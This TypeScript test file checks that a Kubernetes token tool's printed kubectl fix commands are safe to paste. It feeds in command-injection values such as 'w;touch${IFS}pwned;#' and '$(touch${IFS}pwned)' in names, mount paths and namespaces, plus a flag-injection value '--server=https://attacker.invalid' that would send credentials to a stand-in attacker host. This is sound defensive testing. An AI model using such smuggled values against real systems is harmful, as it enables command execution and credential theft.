/**
 * The commands each subcommand prints, pasted into /bin/sh as an operator would, when the cluster,
 * the token or the audit log holds hostile names: a mount path `/aws/$(touch${IFS}pwned)`, an
 * ownerReference named `w;touch${IFS}pwned;#`, a namespace claim `x;touch${IFS}pwned;#`, a Secret
 * name in an audit annotation. Pasting must run exactly the command shown, the hostile value one
 * argument, and create no `pwned`. Names a line cannot carry (a newline) give a patch as JSON on
 * stdin, or no command at all — never a broken line.
 * kubectl is a stand-in that records its argv (tests/support/paste.ts); the emulator serves the objects.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { start, type Emulator } from '../apiserver';
import { auditCommand } from '../../src/cli/commands/audit';
import { decodeCommand } from '../../src/cli/commands/decode';
import { migrateLegacyCommand } from '../../src/cli/commands/migrate-legacy';
import { testAuthCommand } from '../../src/cli/commands/test-auth';
import { NOT_PRINTED, patchObjectFromStdin, render, unprintable } from '../../src/shell/command';
import { findKubectl } from '../support/kubectl';
import { cli } from '../support/cli';
import { paste, type Pasted } from '../support/paste';
import { makeBoundToken, newKey, TEST_NOW } from '../support/tokens';
import { diagnoseJson } from './diagnose-support';

const NS = 'hostile';
const INJECT = 'touch${IFS}pwned';
const OWNER = `w;${INJECT};#`;
const OWNER_NL = 'w\ntouch pwned';
/** Quoted or not, kubectl reads this operand as a flag, and would send the operator's credentials there. */
const OWNER_FLAG = '--server=https://attacker.invalid';
const MOUNT = `/aws/$(${INJECT})`;
const EVIL_NS = `x;${INJECT};#`;

const pod = (name: string, extra: { metadata?: object; spec?: object; container?: object }) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, namespace: NS, ...extra.metadata },
  spec: { serviceAccountName: 'app', nodeName: 'node-1', containers: [{ name: 'app', image: 'busybox', ...extra.container }], ...extra.spec },
});
const widget = (name: string) => ({ ownerReferences: [{ apiVersion: 'example.com/v1', kind: 'Widget', name, uid: `uid-${name.length}`, controller: true }] });

const objects = [
  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NS } },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'app', namespace: NS, uid: 'uid-app' } },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'web', namespace: NS, uid: 'uid-web' }, secrets: [{ name: 'web-token-bbbbb' }] },
  {
    apiVersion: 'v1',
    kind: 'Secret',
    type: 'kubernetes.io/service-account-token',
    metadata: { name: 'web-token-bbbbb', namespace: NS, annotations: { 'kubernetes.io/service-account.name': 'web', 'kubernetes.io/service-account.uid': 'uid-web' } },
  },
  // The AWS SDK variable points at the API token; the pod's own IRSA token is mounted under a hostile path.
  pod('irsa-0', {
    spec: { volumes: [{ name: 'aws-iam-token', projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com', expirationSeconds: 86400, path: 'token' } }] } }] },
    container: {
      env: [{ name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: '/var/run/secrets/kubernetes.io/serviceaccount/token' }],
      volumeMounts: [{ name: 'aws-iam-token', mountPath: MOUNT }],
    },
  }),
  // Automount off in the pod spec: the fix patches the owning Widget's template.
  pod('owned-0', { metadata: widget(OWNER), spec: { automountServiceAccountToken: false } }),
  pod('owned-nl-0', { metadata: widget(OWNER_NL), spec: { automountServiceAccountToken: false } }),
  pod('owned-flag-0', { metadata: widget(OWNER_FLAG), spec: { automountServiceAccountToken: false } }),
  {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'web', namespace: NS, uid: 'uid-dep-web' },
    spec: { replicas: 0, selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { automountServiceAccountToken: false, containers: [{ name: 'web', image: 'nginx' }] } } },
  },
  // A legacy token Secret mounted by a pod of a hostile Widget: migrate-legacy patches the Widget.
  pod('legacy-0', {
    metadata: widget(OWNER),
    spec: { serviceAccountName: 'web', volumes: [{ name: 'token', secret: { secretName: 'web-token-bbbbb' } }] },
    container: { volumeMounts: [{ name: 'token', mountPath: '/var/run/secrets/legacy' }] },
  }),
];

let k: Emulator;
let dir: string;
beforeAll(async () => {
  k = await start({ objects: objects as any });
  dir = mkdtempSync(path.join(tmpdir(), 'satoken-printed-'));
});
afterAll(async () => {
  await k?.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** Pasting `line` ran kubectl once per command, created no file, and passed `arg` as one argument. */
async function expectOneArgument(line: string, arg: string): Promise<Pasted> {
  expect(line).not.toMatch(/[\n\r]/);
  const pasted = await paste(line);
  expect(pasted.files).toEqual([]);
  expect(pasted.calls.some((c) => c.argv.includes(arg))).toBe(true);
  return pasted;
}

describe('diagnose', () => {
  test('an ownerReference name that kubectl would read as a flag is given as JSON on stdin', async () => {
    const { result } = await diagnoseJson(k, ['owned-flag-0', '-n', NS, '--no-exec']);
    const line = (result.fix as string[]).find((f) => f.includes('kubectl patch'));
    expect(line).toBeDefined();
    const { calls, files } = await paste(line!);
    expect(files).toEqual([]);
    expect(calls).toHaveLength(1);
    expect(calls[0].argv.filter((a) => a.startsWith('--server'))).toEqual([]);
    expect(JSON.parse(calls[0].stdin!).metadata).toEqual({ name: OWNER_FLAG, namespace: NS });
  });

  test('a hostile mount path in the env fix is one argument', async () => {
    const { result } = await diagnoseJson(k, ['irsa-0', '-n', NS, '--no-exec']);
    const line = (result.fix as string[]).find((f) => f.startsWith('kubectl set env'));
    expect(line).toBeDefined();
    const { calls } = await expectOneArgument(line!, `AWS_WEB_IDENTITY_TOKEN_FILE=${MOUNT}/token`);
    expect(calls[0].argv).toEqual(['set', 'env', 'pod/irsa-0', '-n', NS, '-c', 'app', `AWS_WEB_IDENTITY_TOKEN_FILE=${MOUNT}/token`]);
  });

  test('a hostile ownerReference name in the template patch is one argument', async () => {
    const { result } = await diagnoseJson(k, ['owned-0', '-n', NS, '--no-exec']);
    const line = (result.fix as string[]).find((f) => f.startsWith('kubectl patch widget'));
    expect(line).toBeDefined();
    const { calls } = await expectOneArgument(line!, OWNER);
    expect(calls[0].argv.slice(0, 4)).toEqual(['patch', 'widget', OWNER, '-n']);
  });

  test('an ownerReference name with a newline gives the patch with the Widget as JSON on stdin', async () => {
    const { result } = await diagnoseJson(k, ['owned-nl-0', '-n', NS, '--no-exec']);
    const line = (result.fix as string[]).find((f) => f.includes('kubectl patch'));
    expect(line).toBeDefined();
    expect(unprintable(line!)).toBe(false);
    const { calls, files } = await paste(line!);
    expect(files).toEqual([]);
    expect(calls).toHaveLength(1);
    expect(calls[0].argv.slice(0, 3)).toEqual(['patch', '-f', '-']);
    expect(JSON.parse(calls[0].stdin!)).toEqual({ apiVersion: 'example.com/v1', kind: 'Widget', metadata: { name: OWNER_NL, namespace: NS } });
    expect(JSON.parse(calls[0].argv[calls[0].argv.indexOf('-p') + 1])).toEqual([{ op: 'add', path: '/spec/template/spec/automountServiceAccountToken', value: true }]);
  });
});

const kubectl = findKubectl();
(kubectl ? test : test.skip)(`the JSON-on-stdin form of a patch works with the real kubectl${kubectl ? '' : ' (skipped: no kubectl >= 1.28 on PATH)'}`, async () => {
  // The form an unprintable name gets: checked here on an ordinary Deployment, which a real API server lets exist.
  const line = render(patchObjectFromStdin({ apiVersion: 'apps/v1', kind: 'Deployment', namespace: NS, name: 'web' }, 'json', [
    { op: 'add', path: '/spec/template/spec/automountServiceAccountToken', value: true },
  ]));
  expect(line).toMatch(/^printf '%s\\n' '\{.*\}' \| kubectl patch -f - --type json -p '/);
  await promisify(execFile)('/bin/sh', ['-c', line], { env: { PATH: process.env.PATH!, KUBECONFIG: k.kubeconfigPath, HOME: dir }, timeout: 30_000 });
  const r = await k.adminRequest('GET', `/apis/apps/v1/namespaces/${NS}/deployments/web`);
  expect(r.body.spec.template.spec.automountServiceAccountToken).toBe(true);
});

test('decode: a hostile namespace claim in `kubectl create token` is one argument; a newline prints no command', async () => {
  const decode = async (namespace: string) => {
    // Expired and bound to nothing: the fix is "request a new token (kubectl create token …)".
    const token = makeBoundToken({ namespace, boundTo: null, issuedAt: new Date(TEST_NOW.getTime() - 7200_000), expirationSeconds: 600 });
    const r = await cli(['decode', token, '-o', 'json'], { clock: () => TEST_NOW, commands: [decodeCommand] });
    return (JSON.parse(r.stdout).findings as Array<{ fix?: string }>).map((f) => f.fix ?? '').join('\n');
  };
  const line = /\((kubectl create token [^)]*)\)/.exec(await decode(EVIL_NS))?.[1];
  expect(line).toBeDefined();
  const { calls } = await expectOneArgument(line!, EVIL_NS);
  expect(calls[0].argv).toEqual(['create', 'token', 'app', '-n', EVIL_NS, '--audience', 'https://kubernetes.default.svc.cluster.local']);

  const fixes = await decode('x\ntouch pwned');
  expect(fixes).toContain(`(${NOT_PRINTED})`);
  expect(fixes).not.toMatch(/-n x\n/);
});

test('test-auth: a hostile namespace claim in the fix is one argument', async () => {
  // Signed by a key the cluster does not trust: refused, and the fix mints a fresh token.
  const token = makeBoundToken({ namespace: EVIL_NS, boundTo: null, issuedAt: new Date(Date.now() - 60_000), key: newKey() });
  const file = path.join(dir, 'evil.jwt');
  writeFileSync(file, token);
  const r = await cli(['test-auth', '-f', file, '-o', 'json'], { kubeconfig: k.kubeconfigPath, commands: [testAuthCommand] });
  const fix = JSON.parse(r.stdout).fix as string;
  const line = /\((kubectl create token [^)]*)\)/.exec(fix)?.[1];
  expect(line).toBeDefined();
  const { calls } = await expectOneArgument(line!, EVIL_NS);
  expect(calls[0].argv).toEqual(['create', 'token', 'app', '-n', EVIL_NS]);
});

test('migrate-legacy: a hostile owner name in the patch command is one argument', async () => {
  const r = await cli(['migrate-legacy', '-n', NS, '-o', 'json'], { kubeconfig: k.kubeconfigPath, commands: [migrateLegacyCommand] });
  const item = JSON.parse(r.stdout).items.find((i: { secret: string }) => i.secret === 'web-token-bbbbb');
  const line = (item.commands as string[]).find((c) => c.startsWith('kubectl patch widget'));
  expect(line).toBeDefined();
  const { calls } = await expectOneArgument(line!, OWNER);
  expect(calls[0].argv.slice(0, 5)).toEqual(['patch', 'widget', OWNER, '-n', NS]);
});

test("audit: a hostile Secret name in an annotation is one argument of What to do's command", async () => {
  const secret = `deployer-token;${INJECT};#`;
  const event = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: 'a1',
    stage: 'ResponseStarted',
    requestURI: '/api/v1/namespaces/ci/pods',
    verb: 'list',
    user: {},
    sourceIPs: ['203.0.113.7'],
    userAgent: 'kubectl/v1.24.3 (linux/amd64) kubernetes/aef86a9',
    responseStatus: { metadata: {}, code: 401 },
    requestReceivedTimestamp: '2026-11-28T04:16:05.343668Z',
    stageTimestamp: '2026-11-28T04:16:05.348058Z',
    annotations: { 'authentication.k8s.io/legacy-token': 'system:serviceaccount:ci:deployer', 'authentication.k8s.io/legacy-token-invalidated': `${secret}/ci` },
  };
  const log = path.join(dir, 'audit.log');
  writeFileSync(log, JSON.stringify(event) + '\n');
  const r = await cli(['audit', '--log', log, '-o', 'json'], { clock: () => TEST_NOW, commands: [auditCommand] });
  const fixes = (JSON.parse(r.stdout).items as Array<{ fix: string }>).map((i) => i.fix).join('\n');
  const line = /kubectl label secret .*$/m.exec(fixes)?.[0];
  expect(line).toBeDefined();
  const { calls } = await expectOneArgument(line!, secret);
  expect(calls[0].argv).toEqual(['label', 'secret', '-n', 'ci', secret, 'kubernetes.io/legacy-token-invalid-since-']);
});
